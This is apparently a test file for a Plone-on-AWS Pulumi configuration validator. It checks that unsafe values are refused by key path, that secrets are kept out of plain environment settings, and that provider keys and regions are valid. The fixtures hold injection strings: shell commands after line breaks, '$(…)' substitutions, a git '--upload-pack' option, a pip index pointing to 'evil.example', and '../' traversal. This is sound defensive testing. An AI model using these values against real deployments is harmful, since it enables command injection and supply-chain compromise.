// Input safety of the configuration: the values found reaching root scripts unencoded are refused
// by their key path, secrets stay out of app.environment, misspelt namespaces and unknown AWS
// provider keys are named, the region is a real one, and the lists kept by hand (regions, provider
// keys) match what @pulumi/aws declares.
import { expect } from "chai";
import { AWS_PROVIDER_KEYS } from "../../components/config/load";
import { AWS_REGIONS, isGitRevision, STRING_KINDS } from "../../components/config/kinds";
import { looksLikeSecretName, urlHasCredentials } from "../../components/config/secretNames";
import { stringKeys } from "../../components/config/stringKeys";
import { minimalConfig, parseObjects } from "../helpers/stacks";

type Config = Record<string, unknown>;

const validConfig = (): Config => minimalConfig();

function withSection(section: string, value: unknown, base = validConfig()): Config {
    return { ...base, [`plone-aws:${section}`]: value };
}

function errorsOf(config: Config): { path: string; message: string }[] {
    const r = parseObjects(config);
    return r.errors;
}

describe("input safety of the configuration", function () {
    describe("the values seen reaching root scripts are refused by their key path", () => {
        const cases: { name: string; config: Config; path: string }[] = [
            {
                name: "a curl option in a cache archive's user",
                config: withSection("app", {
                    repository: "https://example.org/b.git",
                    cacheArchives: [{ url: "https://x.example.org/e.tgz", path: "shared/eggs", user: "me\noutput = /etc/cron.d/x" }],
                }),
                path: "plone-aws:app.cacheArchives[0].user",
            },
            {
                name: "a shell command after a line break in a purge regex",
                config: withSection("frontend", { domain: "www.example.org", varnish: { purgeUrls: [".*\ntouch /tmp/pwned"] } }),
                path: "plone-aws:frontend.varnish.purgeUrls[0]",
            },
            {
                name: "a haproxy server after a line break in the health check path",
                config: withSection("plone", { healthCheckPath: "/ok\n    server evil 203.0.113.66:80" }),
                path: "plone-aws:plone.healthCheckPath",
            },
            {
                name: "a line break in an environment value",
                config: withSection("app", { repository: "https://example.org/b.git", environment: { A: "x\ny" } }),
                path: "plone-aws:app.environment.A",
            },
            {
                name: "a line break in celery's worker arguments",
                config: withSection("plone", { celery: { enabled: true, workerArgs: "-c 2\n[program:x]" } }),
                path: "plone-aws:plone.celery.workerArgs",
            },
            {
                name: "a line break in an init command's arguments",
                config: withSection("app", { repository: "https://example.org/b.git", initCommands: [{ name: "w", cmd: "bin/w", args: "a\nb" }] }),
                path: "plone-aws:app.initCommands[0].args",
            },
            {
                name: "quotes in a remote syslog file",
                config: withSection("monitoring", { remoteSyslog: { host: "logs.example.org", port: 514, files: { '/var/log/a"b.log': "a" } } }),
                path: 'plone-aws:monitoring.remoteSyslog.files./var/log/a"b.log',
            },
            {
                name: "a line break in the New Relic app name",
                config: withSection("monitoring", { newRelic: { appName: "a\nlicense_key = x" } }),
                path: "plone-aws:monitoring.newRelic.appName",
            },
            {
                name: "a command in the Solr host",
                config: withSection("plone", { solr: { enabled: true, host: "$(touch /tmp/x)" } }),
                path: "plone-aws:plone.solr.host",
            },
            {
                name: "a command in the broker host",
                config: withSection("plone", { celery: { enabled: true, brokerHost: "x;id" } }),
                path: "plone-aws:plone.celery.brokerHost",
            },
            { name: "spaces in a warm-up path", config: withSection("plone", { warmupPaths: ["/a b"] }), path: "plone-aws:plone.warmupPaths[0]" },
            {
                name: "an option as the revision",
                config: withSection("app", { repository: "https://example.org/b.git", revision: "--upload-pack=touch /tmp/x" }),
                path: "plone-aws:app.revision",
            },
            {
                name: "a sub-site path with ..",
                config: withSection("frontend", { domain: "www.example.org", subsites: { "docs.example.org": "../../etc" } }),
                path: "plone-aws:frontend.subsites.docs.example.org",
            },
            { name: "a site id of ..", config: withSection("plone", { siteId: ".." }), path: "plone-aws:plone.siteId" },
            {
                name: "an option as a pip package",
                config: withSection("app", { repository: "https://example.org/b.git", pipPackages: ["--index-url=http://evil.example/simple"] }),
                path: "plone-aws:app.pipPackages[0]",
            },
            {
                name: "a KMS key that is not an ARN",
                config: withSection("snapshots", { crossRegionCopy: { region: "eu-central-1", kmsKeyArn: "arn:x$(id)" } }),
                path: "plone-aws:snapshots.crossRegionCopy.kmsKeyArn",
            },
            {
                name: "a database host with a space",
                config: withSection("plone", { storage: "zeo", blobs: "local", celery: { enabled: true, brokerHost: "a b" } }),
                path: "plone-aws:plone.celery.brokerHost",
            },
            {
                name: "a token in the repository URL",
                config: withSection("app", { repository: "https://bot:glpat-secret@gitlab.example.org/b.git" }),
                path: "plone-aws:app.repository",
            },
        ];
        for (const c of cases) {
            it(c.name, () => {
                const errors = errorsOf(c.config);
                expect(
                    errors.map((e) => e.path),
                    JSON.stringify(errors),
                ).to.include(c.path);
                for (const e of errors) expect(e.message).not.to.match(/[\r\n]/);
            });
        }

        it("a real region only, with a hint", () => {
            expect(errorsOf({ ...validConfig(), "aws:region": "eu-west-9" })).to.deep.include({
                path: "aws:region",
                message: "must be an AWS region such as eu-west-1 (did you mean eu-west-1?)",
            });
            expect(errorsOf({ ...validConfig(), "aws:region": "eu-west-1\n" }).map((e) => e.path)).to.include("aws:region");
        });

        it("allocated storage above the maximum", () => {
            const config = {
                ...validConfig(),
                "plone-aws:hosts": [{ name: "one", instanceType: "t3.large", layers: ["frontend", "plone_instances", "db_packing"] }],
                "plone-aws:plone": { storage: "relstorage", blobs: "database" },
                "plone-aws:database": { allocatedStorage: 300, maxAllocatedStorage: 200 },
            };
            expect(errorsOf(config).find((e) => e.path === "plone-aws:database.allocatedStorage")?.message).to.match(
                /more than database.maxAllocatedStorage \(200 GiB\)/,
            );
        });

        it("raw text under the cookbook's old key names: refused with the new name", () => {
            const errors = errorsOf(withSection("frontend", { domain: "www.example.org", nginx: { additionalConfig: "x" } }));
            expect(errors).to.deep.include({
                path: "plone-aws:frontend.nginx.additionalConfig",
                message: "renamed: this is now plone-aws:frontend.nginx.rawServer",
            });
        });

        it("an unknown nested key gets a hint and the keys of its place", () => {
            const errors = errorsOf(withSection("plone", { heathCheckPath: "/ok" }));
            expect(errors[0].path).to.equal("plone-aws:plone.heathCheckPath");
            expect(errors[0].message).to.match(/^unknown key \(did you mean healthCheckPath\?\); the keys here are siteId, /);
        });
    });

    describe("secrets stay secrets", () => {
        it("refuses secret-looking names in app.environment, with the command that sets them as secrets", () => {
            for (const name of ["DB_PASSWORD", "SENTRY_DSN", "SMTP_PASS", "API_KEY", "AUTH_TOKEN", "SECRET_KEY"]) {
                const errors = errorsOf(withSection("app", { repository: "https://example.org/b.git", environment: { [name]: "value" } }));
                expect(errors, name).to.deep.include({
                    path: `plone-aws:app.environment.${name}`,
                    message: `looks like a secret, and app.environment is readable on the hosts and in the plan: remove it here and set it with pulumi config set --secret --path 'plone-aws:appSecrets.${name}' <value>`,
                });
            }
        });

        it("refuses a URL with a password or an authorization value in app.environment", () => {
            const errors = errorsOf(
                withSection("app", {
                    repository: "https://example.org/b.git",
                    environment: { DATABASE_URL: "postgres://plone:pw@db/plone", UPSTREAM: "Bearer abcdefghijkl" },
                }),
            );
            expect(errors.map((e) => e.path)).to.include.members(["plone-aws:app.environment.DATABASE_URL", "plone-aws:app.environment.UPSTREAM"]);
            for (const e of errors) expect(e.message).not.to.include("pw@");
        });

        it("reads plone-aws:appSecrets: names checked, values never quoted", () => {
            const ok = parseObjects({ ...validConfig(), "plone-aws:appSecrets": { SENTRY_DSN: "https://k@sentry.example.org/1", "SMTP-PASS": "x" } });
            expect(ok.errors).to.deep.equal([
                {
                    path: "plone-aws:appSecrets.SMTP-PASS",
                    message: "must be an environment variable name (letters, digits and '_', not starting with a digit, at most 128)",
                },
            ]);
            const good = parseObjects({ ...validConfig(), "plone-aws:appSecrets": { SENTRY_DSN: "https://k@sentry.example.org/1" } });
            expect(good.spec!.appSecretNames).to.deep.equal(["SENTRY_DSN"]);
            expect(JSON.stringify(good.spec)).not.to.include("k@sentry");
        });

        it("checks each secret's form by key, never quoting the value", () => {
            const bad = { ...validConfig(), "plone-aws:haproxyStatsPassword": "pw\n    server evil 1.2.3.4:80", "plone-aws:sshPrivateKey": "not a key" };
            const errors = errorsOf(bad);
            expect(errors.map((e) => e.path)).to.include.members(["plone-aws:haproxyStatsPassword", "plone-aws:sshPrivateKey"]);
            for (const e of errors) expect(e.message).not.to.include("evil");
        });

        it("an RDS password: what RDS accepts (no '/', '\"', '@' or space), and what buildout can hold", () => {
            const relstorage = {
                ...validConfig(),
                "plone-aws:hosts": [{ name: "one", instanceType: "t3.large", layers: ["frontend", "plone_instances", "db_packing"] }],
                "plone-aws:plone": { storage: "relstorage", blobs: "database" },
                "plone-aws:database": {},
                "plone-aws:network": { azCount: 2, natGateways: "none", adminCidrs: ["198.51.100.7/32"] },
            };
            for (const bad of ["abc/defghij", 'abc"defghij', "abc@defghij", "abc defghij", "short", "a${b:c}defgh"]) {
                expect(
                    errorsOf({ ...relstorage, "plone-aws:dbPassword": bad }).map((e) => e.path),
                    bad,
                ).to.include("plone-aws:dbPassword");
            }
            expect(errorsOf({ ...relstorage, "plone-aws:dbPassword": "0123456789abcdef0123456789abcdef0123456789abcdef" })).to.deep.equal([]);
        });

        it("looksLikeSecretName: secret words anywhere, key words at the end, public keys and prefixes not", () => {
            for (const n of [
                "DB_PASSWORD",
                "SMTP_PASS",
                "SENTRY_DSN",
                "apiToken",
                "SECRET_KEY",
                "API_KEY",
                "Authorization",
                "BASIC_AUTH",
                "NEW_RELIC_LICENSE_KEY",
                "DBPASSWORD",
            ])
                expect(looksLikeSecretName(n), n).to.equal(true);
            for (const n of ["PLONE_ENV", "PUBLIC_KEY", "KEYWORDS", "CACHE_KEY_PREFIX", "SESSION_TIMEOUT", "TZ", "PASSAGE"])
                expect(looksLikeSecretName(n), n).to.equal(false);
            expect(urlHasCredentials("redis://:pw@cache:6379")).to.equal(true);
            expect(urlHasCredentials("https://oauth2@gitlab.example.org/x.git")).to.equal(false);
        });
    });

    describe("keys outside the plone-aws namespace", () => {
        it("a misspelt namespace is named with the key it meant", () => {
            const errors = errorsOf({ ...validConfig(), "ploneaws:tier": "production", "plone_aws:hosts": "[]" });
            expect(errors).to.deep.include({
                path: "ploneaws:tier",
                message: "the namespace is plone-aws, not ploneaws: this key would be ignored (did you mean plone-aws:tier?)",
            });
            expect(errors.map((e) => e.path)).to.include("plone_aws:hosts");
        });

        it("aws: keys that look like ours, or like the provider's", () => {
            const errors = errorsOf({ ...validConfig(), "aws:tier": "production", "aws:regoin": "eu-west-1" });
            expect(errors).to.deep.include({ path: "aws:tier", message: "not a setting of the AWS provider: did you mean plone-aws:tier?" });
            expect(errors).to.deep.include({
                path: "aws:regoin",
                message: "not a setting of the AWS provider (did you mean aws:region?): the provider would ignore or refuse it",
            });
            expect(errorsOf({ ...validConfig(), "aws:profile": "prod", "aws:defaultTags": "{}", "other:key": "x" })).to.deep.equal([]);
        });

        it("the provider keys and regions kept here are those @pulumi/aws declares", () => {
            // eslint-disable-next-line @typescript-eslint/no-require-imports
            const vars = Object.keys(require("@pulumi/aws/config/vars")).filter((k) => !k.startsWith("_"));
            expect([...AWS_PROVIDER_KEYS].sort()).to.deep.equal(vars.sort());
            // eslint-disable-next-line @typescript-eslint/no-require-imports
            const { Region } = require("@pulumi/aws/types/enums") as { Region: Record<string, string> };
            const declared = Object.values(Region);
            expect(
                declared.filter((r) => !AWS_REGIONS.includes(r)),
                "regions @pulumi/aws knows and plone-aws refuses",
            ).to.deep.equal([]);
        });
    });

    describe("kinds", () => {
        it("every string key has one, and every kind is used", () => {
            const keys = stringKeys();
            expect(keys.filter((k) => !k.kind).map((k) => k.name)).to.deep.equal([]);
            const used = new Set(keys.map((k) => k.kind));
            expect(Object.keys(STRING_KINDS).filter((k) => !used.has(k as never))).to.deep.equal([]);
        });

        it("raw text only in keys named raw", () => {
            for (const k of stringKeys().filter((key) => !key.name.endsWith("{key}"))) {
                const raw = k.name.split(/[.{[]/).some((p) => p.startsWith("raw"));
                expect(k.kind === "raw", k.name).to.equal(raw);
            }
        });

        it("git revisions as git accepts them", () => {
            for (const ok of ["main", "v1.0.0", "feature/x-1", "0123abcd", "release-2026.12"]) expect(isGitRevision(ok), ok).to.equal(true);
            for (const bad of ["-x", "a..b", "a b", "a@{1}", "x.lock", "/a", "a/", "a~1", "a^", "a:b", ".hidden"])
                expect(isGitRevision(bad), bad).to.equal(false);
        });
    });
});
